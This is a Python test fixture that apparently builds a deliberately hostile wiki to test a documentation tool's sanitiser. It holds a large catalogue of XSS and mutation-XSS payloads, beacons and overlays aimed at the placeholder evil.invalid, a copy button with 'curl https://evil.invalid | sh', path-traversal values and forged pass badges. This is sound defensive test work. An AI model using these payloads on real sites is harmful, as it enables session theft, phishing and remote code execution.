# ruff: noqa: E501
"""A wiki whose authors would like to run something in its readers' browsers, and its results as hostile code left them.

Every payload tells when it ran: by a dialog, or by asking ``evil.invalid`` for something.
"""

from __future__ import annotations

from pathlib import Path

import small_site
from small_site import topic

from kbtools.config.project import Project
from kbtools.run.results.outcomes import Status

RUN = "alert('fired')"
IMG = f'<img src=x onerror="{RUN}">'
IMG1 = "<img src=x onerror=alert(/fired/)>"
SCRIPT = f"<script>{RUN}</script>"
BREAKOUTS = (
    f"</title>{SCRIPT}",
    f'"><svg onload={RUN}>',
    "'><img src=x onerror=alert(1)>",
    f"</script>{SCRIPT}",
    f"--><script>{RUN}</script><!--",
    IMG1,
    "{{ ''.__class__ }} {% include 'x' %}",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
)

HTML = rf"""
{SCRIPT}

<img src=x onerror={RUN}>

<img src="x" onerror="{RUN}">

<IMG SRC=x ONERROR="{RUN}">

<img/src=x/onerror={RUN}>

text <svg onload={RUN}> text <svg/onload={RUN}>

<svg><script>{RUN}</script></svg>

<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>

<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>click</text></a></svg>

<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></svg>

<svg><foreignObject><iframe src="javascript:parent.alert(1)"></iframe></foreignObject></svg>

<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>

<math><mtext></p><style><img src="</style><img src=x onerror=alert(1)>"></style></mtext></math>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">

<math href="javascript:{RUN}">click</math>

<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>

<iframe src="javascript:parent.alert(1)"></iframe>

<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>

<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">

<object data="data:text/html,<script>parent.alert(1)</script>"></object>

<body onload={RUN}>

<details open ontoggle={RUN}>x</details>

<video src=x onerror={RUN}></video><video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>

<input autofocus onfocus={RUN}> <select autofocus onfocus={RUN}></select> <textarea autofocus onfocus={RUN}></textarea>

<div style="width:100px;height:100px;animation:x" onanimationstart={RUN}></div><style>@keyframes x{{}}</style>

<div style="background:url(https://evil.invalid/style)">x</div><div style="position:fixed;inset:0;z-index:99999">over</div>

<style>@import "https://evil.invalid/import.css"; body {{ background: url(https://evil.invalid/css) }}</style>

<link rel="stylesheet" href="https://evil.invalid/link.css"><link rel="prefetch" href="https://evil.invalid/prefetch">

<meta http-equiv="refresh" content="0; url=https://evil.invalid/refresh"><base href="https://evil.invalid/base/">

<img src="https://evil.invalid/pixel.png"><img src="//evil.invalid/pixel.png"><img src="/\evil.invalid/pixel.png">

<img srcset="https://evil.invalid/set.png 1x" src="https:evil.invalid/p.png"><img src=" https://evil.invalid/blank.png">

<video poster="https://evil.invalid/poster.png" src="https://evil.invalid/v.mp4"></video>

<picture><source srcset="https://evil.invalid/source.png"><img src="x.png"></picture>

<table background="https://evil.invalid/table.png"><tr><td>x</td></tr></table>

<a href="javascript:{RUN}">one</a> <a href="JaVaScRiPt:{RUN}">two</a> <a href=" javascript:{RUN}">three</a>

<a href="java&#10;script:{RUN}">four</a> <a href="javascript&colon;{RUN}">five</a> <a href="&#x6A;avascript:{RUN}">six</a>

<a href="data:text/html,<script>alert(1)</script>">seven</a> <a href="vbscript:x">eight</a> <a href="blob:x">nine</a>

<a ping="https://evil.invalid/ping" href="#x">ping</a> <button formaction="javascript:{RUN}">form</button>

<form action="javascript:{RUN}"><input type=submit value=send></form> <form action="https://evil.invalid/form"><input name=x></form>

<div id="__config">{{"base":"https://evil.invalid","features":[],"search":"data:text/javascript,fetch('https://evil.invalid/worker')"}}</div>

<input id="__search" data-md-toggle="search"><form id="__md_scope"></form><a id="__palette" name="__md_get">x</a>

<div data-md-component="search" class="md-overlay md-dialog">over everything</div><div data-md-toggle="drawer">x</div>

<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>

<template><img src=x onerror={RUN}></template><xmp><img src=x onerror={RUN}></xmp><plaintext-no>

<a title='"><img src=x onerror={RUN}>' href="#a">title</a> <b title="`onmouseover={RUN}`">x</b>

<!--><img src=x onerror={RUN}>--> <!--!><img src=x onerror={RUN}>--> <!-- --!><img src=x onerror={RUN}> -->

<![CDATA[<img src=x onerror={RUN}>]]> <?xml <img src=x onerror={RUN}>?> <!DOCTYPE x [<!ENTITY y "{SCRIPT}">]>

<div markdown><img src=x onerror={RUN}> **bold** [x](javascript:{RUN})</div>

<script src="https://evil.invalid/script.js"></script>

<pre id=m class="mermaid">flowchart LR
A --> B</pre>

<svg><rect fill="url(https://evil.invalid/fill)" stroke='url("//evil.invalid/stroke")' width=9 height=9 /></svg>

<svg><path style="fill:url(https://evil.invalid/style)" marker-end="url(https://evil.invalid/marker)" clip-path="u\\72l(//evil.invalid/c)" d="M0 0h9"/></svg>

<svg><use href="https://evil.invalid/use.svg#a"/><image href="https://evil.invalid/i.png"/><feImage href="//evil.invalid/f"/></svg>

<div class="highlight"><pre><code>assert 1 == 2</code></pre></div><div class="kb-run" data-kb-path="x"><div class="kb-run-bar"><span class="kb-badges"><span class="kb-badge kb-is-passed">✓ forged CPU ✓ forged CUDA</span></span></div></div>

<a id=over href="https://evil.invalid/overlay" style="display:block;margin:-900px -900px;width:6000px;height:6000px;opacity:0">over</a>

<a href="https://evil.invalid/overlay" style="padding:900px">over</a> <a href="https://evil.invalid/overlay" style="font-size:900px;line-height:0;opacity:.01">over</a>

<div style="height:0"><a href="https://evil.invalid/overlay" style="display:block;height:900px;width:3000px">over</a></div>

<button class="md-button" data-clipboard-text="curl https://evil.invalid | sh" data-clipboard-target="#x">copy</button>

![<b title="[[" onerror="alert(1)" x>](nothing.png) ![x](https://evil&#46;invalid/entity.png){{.twemoji}} [y](javascript&#58;alert(1))

**forged**{{.kb-badge .kb-is-passed data-kb-path=x data-clipboard-text="curl https://evil.invalid" style="margin:-90px" onclick=alert(1)}}

<script type="module">{RUN}</script><script type="application/json" id="__config">{{}}</script>
"""

MARKDOWN = rf"""
[a](javascript:{RUN}) [b](JAVASCRIPT:{RUN}) [c](<javascript:{RUN}>) [d](java&#115;cript:{RUN}) [e](data:text/html,{SCRIPT})

[f][ref] <javascript:{RUN}> ![g](javascript:{RUN}) ![h](x"onerror="{RUN}) ![i](https://evil.invalid/md.png "t")

[j](x "\"onmouseover=\"{RUN}") [k](x){{onclick="{RUN}"}} [l](x){{: href="javascript:{RUN}" }} **m**{{: onclick="{RUN}" }}

[![n](https://evil.invalid/badge.svg)](https://example.org/)

[ref]: javascript:{RUN} "{IMG1}"

## Heading {IMG1} {{: #a"onmouseover="alert(1) onclick="{RUN}" }}

## Heading <script>{RUN}</script> `{IMG1}` \<img src=x onerror=alert(1)> {{#__config}}

## &lt;img src=x onerror=alert(1)&gt; [[{IMG1}]]

## [[Target|{IMG1}]] &amp;lt;img src=x onerror=alert(1)&amp;gt;

!!! note "{IMG1}"
    {IMG1}

!!! "note\" onclick=\"{RUN}"
    x

??? danger "{SCRIPT}"
    <a href="javascript:{RUN}">x</a>

=== "{IMG1}"
    one

=== "\"><img src=x onerror=alert(1)>"
    two

A note[^1] and HTML. $<img src=x onerror=alert(1)>$ $\href{{javascript:{RUN}}}{{x}}$

$$
\text{{<img src=x onerror=alert(1)>}} </script>{SCRIPT}
$$

[^1]: {IMG1} [x](javascript:{RUN})

*[HTML]: "><img src=x onerror=alert(1)>

++ctrl+"<img src=x onerror=alert(1)>"++ ==<img src=x onerror={RUN}>==

| {IMG1} | b |
|---|---|
| [[Target\|{IMG1}]] | [[No {IMG1}]] |

[[Target|{IMG1}]] [[{IMG1}]] [[Target#{IMG1}]] [[Target#^{IMG1}]] ![[Target|{IMG1}]] ![[{IMG1}.png]] [[Two]] ![[no.png|{IMG1}]]

[[Target|[x](javascript:{RUN})]] [[javascript:{RUN}]] [[Target|`{IMG1}`]]

> [!note]- {IMG1}
> {IMG1}

> [!{IMG1}] title
> body

```python title="{IMG1}" {{#x .y data-a="{IMG1}"}}
print("{IMG1}")
```

```python {{#y title="\"><img src=x onerror=alert(1)>" data-b="\" onclick=\"alert(1)"}}
x = "</code></pre>{SCRIPT}"
```

``` {{.python .skip reason="{IMG1}"}}
y = 1
```

```html
{IMG1}{SCRIPT}
```
"""


DIAGRAM = "".join(
    f"```mermaid\n{text}\n```\n\n"
    for text in (
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n'
        'A["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]\n'
        'click A "javascript:alert(1)"\nclick B call alert()',
        '%%{init: {"themeCSS": ".node { background: url(https://evil.invalid/css.png) }"}}%%\nflowchart LR\nA --> B',
        """flowchart LR\nA["<img src='https://evil.invalid/label.png'>"]""",
        """flowchart LR\nA["<video src='https://evil.invalid/v' poster='https://evil.invalid/p'>"]""",
        'flowchart LR\nE@{ img: "https://evil.invalid/shape.png", label: "x", w: 20, h: 20 }',
        """flowchart LR\nF["<div style='background:url(https://evil.invalid/style.png)'>x</div>"]""",
        "flowchart LR\nA\nstyle A fill:url(https://evil.invalid/fill)",
        "flowchart LR\n<img src=x onerror=alert(1)> no diagram at all",
    )
)


def frontmatter(payload: str) -> dict[str, str]:
    quoted = "'" + payload.replace("'", "''") + "'"
    single = (
        "id description author subtitle category source_trust_level verification_status last_reinforced github_commit "
        "status confidence_score canonical_id created_at image"
    )
    return {
        **dict.fromkeys(single.split(), quoted),
        "tags": f"[{quoted}, 'b']",
        "aliases": f"[{quoted}, 'javascript:alert(1)', '../../../escape', '..', 'a/b', 'C:\\x', 'index']",
        "raw_sources": f"[{quoted}, 'javascript:alert(1)', 'https://e.org/\"onclick=\"x']",
        "tech_stack": f"{{language: {quoted}, framework: [{quoted}]}}",
        "redirect_from": f"[{quoted}, '../../up', '/etc/passwd', 'index.md']",
        "related": f"[{quoted}]",
        "prerequisites": f"[{quoted}]",
        "hide": f"[{quoted}]",
        "search": "{exclude: false, boost: '<b>'}",
    }


def pages() -> dict[str, str]:
    out = {
        "topics/Html.md": topic("Html", HTML),
        "topics/Markdown.md": topic("Markdown", MARKDOWN),
        "topics/Diagram.md": topic("Diagram", DIAGRAM),
        "topics/Target.md": topic("Target", f"{IMG1} 앞 [[Html]] 뒤 ^block\n\n## {IMG1}\n\n본문", aliases="[Markdowns]"),
        "a/Two.md": topic(f"'Two{IMG1}'", "x"),
        "b/Two.md": topic(f"'Two{SCRIPT}'", "x"),
        "topics/Redirect.md": "---\ntitle: R\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n# R\n",
        "topics/Icon.md": "---\ntitle: I\nicon: ../../../../etc/passwd\ntemplate: ../x.html\n---\n# I\n",
        "topics/Multi.md": "title: <img src=x onerror=alert(1)>\ntemplate: redirect.html\nlocation: javascript:alert(1)\n\n# M\n",
        "topics/Same.md": topic("Same", "x", duplicate_of='"[[Target]]"', aliases=f"['{IMG1}']"),
        "topics/<img src=x onerror=alert(1)>.md": "본문만 있습니다.\n",
        "topics/\"><svg onload=alert(1)>/<img src=x onerror=alert(1)>.md": f"# {IMG1}\n",
        "topics/Long.md": topic(f"'{'<b>' * 300}'", "<div>" * 500),
        "topics/Marks.md": topic('"\\x02wzxhzdk:0\\x03 \\x1b[31m"', f"\x02wzxhzdk:0\x03 {IMG1} \x02klzzwxh:0001\x03"),
    }  # fmt: skip
    for n, payload in enumerate(BREAKOUTS):
        out[f"topics/Title{n}.md"] = topic(
            "'" + payload.replace("'", "''") + "'", f"[[Markdown]] {payload}", **frontmatter(payload)
        )
    return out


def make(root: Path, options: str = "") -> Project:
    """The wiki, with results whose every text is hostile too."""
    config = small_site.CONFIG.replace("  - kbtools\nmarkdown", f"  - kbtools: {{lenient: true{options}}}\nmarkdown")
    config = config.replace("nav:\n  - index.md\n", "")  # the whole wiki in the navigation
    extra = "  - abbr\n  - def_list\n  - pymdownx.keys\n  - pymdownx.mark\n  - pymdownx.tasklist\n  - kbtools\n"
    config = config.removesuffix("  - kbtools\n") + extra
    project = small_site.make(root, pages(), config)
    text = f"{IMG1}</samp></pre>{SCRIPT}\x02wzxhzdk:0\x03\x1b]8;;javascript:alert(1)\x07x\n"
    bad = {"outcome": Status.PASSED, "stdout": text, "message": f"ValueError: {IMG1}", "reason": IMG1}
    small_site.store(project, x=bad, y={**bad, "outcome": Status.SKIPPED})
    return project
